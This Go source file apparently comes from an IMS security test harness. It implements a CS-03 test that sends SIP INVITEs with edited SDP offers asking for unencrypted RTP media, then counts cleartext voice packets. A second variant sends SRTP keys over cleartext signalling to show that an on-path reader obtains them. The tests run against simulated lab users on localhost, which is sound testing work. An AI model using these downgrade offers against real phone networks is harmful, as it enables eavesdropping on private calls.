package attack

import (
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/netip"
	"strings"
	"time"

	"imsafe/client/ue"
	"imsafe/proto/sdp"
	"imsafe/proto/sip"
	"imsafe/secure"
)

// sdpDowngrade: an offer that somebody has edited asks for less protection than there could be.
func sdpDowngrade() Attack {
	controls := []secure.ControlID{secure.CSConfidentialityMediaFloor}
	return Attack{
		ID: "cs.sdp.downgrade", Number: "CS-03", Title: "an offer of media in clear",
		Text:     "a call would stand that whoever reads the bearer can hear",
		Services: []Service{Confidentiality}, Stride: Tampering, Threats: []Threat{Disclosure}, Module: ServicesUser,
		Source: "TS 33.328", Access: []Access{TLS}, Media: true,
		Bounds: Bounds{Packets: 80, Bytes: 80_000, Conns: 4, Time: 3 * time.Second},
		Variants: []Variant{
			{Name: "clear", Position: Subscriber, Run: downgrade, Controls: controls},
			{Name: "keys", Position: OnPath, Access: []Access{Clear}, Run: readKeys, Controls: controls, Ours: "it takes a way in that is in clear", NotWire: map[Access]string{Clear: "the access in clear is a laboratory's, of one node"}},
		},
	}
}

// readKeys: carol's telephone, whose signalling is in clear, exchanges media keys in its descriptions (RFC 4568). Whoever is in the path has both.
func readKeys(ctx context.Context, f *Field, o *Outcome) error {
	carol, err := f.Carol(ctx)
	if err != nil {
		return err
	}
	carol.answers.Store(false)
	const times = 3
	statuses, read := []int{}, 0
	for range times {
		answer, err := f.callWithKey(ctx, carol, f.mediaKey())
		if err != nil {
			return err
		}
		statuses = append(statuses, answer.Status())
		if answer.Status() == 200 && strings.Contains(string(answer.Body()), "a=crypto:") {
			read++
		}
	}
	o.Arrived("%d offers with keys, in clear, were answered %v", times, statuses)
	o.Users = min(read, 1)
	o.Wire(read > 0, "who reads carol's wire has the keys of both directions of %d of %d calls", read, times)
	return nil
}

// mediaKey is a key with its salt, as in a description (RFC 4568 6.1).
func (f *Field) mediaKey() string {
	key := make([]byte, 30)
	if _, err := io.ReadFull(f.Random, key); err != nil {
		panic("attack: no randomness: " + err.Error())
	}
	return base64.StdEncoding.EncodeToString(key)
}

// callWithKey calls bob, who takes the call if it comes, with a key in the description.
func (f *Field) callWithKey(ctx context.Context, h *Hand, key string) (*sip.Message, error) {
	conn, err := f.honest.ListenPacket(netip.AddrFrom4([4]byte{127, 0, 0, 1}))
	if err != nil {
		return nil, err
	}
	defer conn.Close()
	at := netip.MustParseAddrPort(conn.LocalAddr().String())
	offer := fmt.Sprintf("v=0\r\no=- 1 1 IN IP4 %v\r\ns=-\r\nc=IN IP4 %[1]v\r\nt=0 0\r\nm=audio %d RTP/SAVP 8\r\na=crypto:1 AES_CM_128_HMAC_SHA1_80 inline:%s\r\n",
		at.Addr(), at.Port(), key)
	r := Request{Method: "INVITE", URI: f.Bob.IMPU, CallID: f.token(), CSeq: 1, Body: offer, Lines: []string{"Contact: " + h.Contact(), "Content-Type: application/sdp"}}
	if err := h.Write(h.Text(r)); err != nil {
		return nil, err
	}
	return f.answerToInvite(ctx, h, r.CallID)
}

// downgrade offers bob media in clear, in three manners, and looks whether voice in clear comes back.
func downgrade(ctx context.Context, f *Field, o *Outcome) error {
	mallory, err := f.Mallory(ctx)
	if err != nil {
		return err
	}
	conn, err := f.attacker.ListenPacket(netip.AddrFrom4([4]byte{127, 0, 0, 1}))
	if err != nil {
		return err
	}
	defer conn.Close()
	at := netip.MustParseAddrPort(conn.LocalAddr().String())
	show := sdp.NewFingerprint([]byte("for show")).String()
	statuses, voice := []int{}, 0
	for _, edited := range []string{"m=audio %d RTP/AVP 8\r\n", "m=audio %d RTP/AVPF 8\r\na=rtcp-mux\r\n",
		"m=audio %d RTP/AVP 8\r\na=setup:actpass\r\na=fingerprint:" + show + "\r\n"} {
		offer := fmt.Sprintf("v=0\r\no=- 1 1 IN IP4 %v\r\ns=-\r\nc=IN IP4 %[1]v\r\nt=0 0\r\n"+edited, at.Addr(), at.Port())
		r := Request{Method: "INVITE", URI: f.Bob.IMPU, CallID: f.token(), CSeq: 1, Body: offer,
			Lines: []string{"Contact: " + mallory.Contact(), "Content-Type: application/sdp"}}
		if err := mallory.Write(mallory.Text(r)); err != nil {
			return err
		}
		status, err := f.answeredInvite(ctx, mallory, r.CallID)
		if err != nil {
			return err
		}
		statuses = append(statuses, status)
		if status != 200 {
			continue
		}
		voice = f.inClear(ctx, conn.ReadFrom)
		break
	}
	o.Arrived("%d offers of media in clear were answered %v", len(statuses), statuses)
	if voice > 0 {
		o.Users = 1
	}
	o.Wire(voice > 0, "%d packets of voice in clear", voice)
	ringing := f.Bob.RungBy(mallory.IMPU) != nil
	o.Peer(voice > 0, "bob's telephone rang: %v", ringing || voice > 0)
	return nil
}

// answeredInvite waits for the answer to an INVITE to bob, who takes the call if it comes.
func (f *Field) answeredInvite(ctx context.Context, h *Hand, callID string) (int, error) {
	m, err := f.answerToInvite(ctx, h, callID)
	return statusOf(m), err
}

func (f *Field) answerToInvite(ctx context.Context, h *Hand, callID string) (*sip.Message, error) {
	final := func(m *sip.Message) bool {
		return !m.IsRequest() && m.Status() >= 200 && string(m.Get(sip.HdrCallID)) == callID && strings.HasSuffix(string(m.Get(sip.HdrCSeq)), "INVITE")
	}
	answer := make(chan error, 1)
	ctx, cancel := Bounded(ctx, reachable)
	defer cancel()
	go func() {
		call, err := f.Bob.Rung(ctx)
		if err == nil {
			call.Answer(ue.Voice{})
		}
		answer <- nil
	}()
	m, err := h.Await(ctx, final)
	cancel()
	<-answer
	return m, err
}

// inClear counts packets that are voice without protection: their silence can be read.
func (f *Field) inClear(ctx context.Context, read func([]byte) (int, net.Addr, error)) (n int) {
	b := make([]byte, 2048)
	for n < 10 && ctx.Err() == nil {
		size, _, err := read(b)
		if err != nil {
			return n
		}
		// G.711 of silence: 160 times one octet, after the header.
		if isVoice(b[:size]) && size == 12+160 && strings.Count(string(b[12:size]), string(b[12:13])) == 160 {
			n++
		}
	}
	return n
}
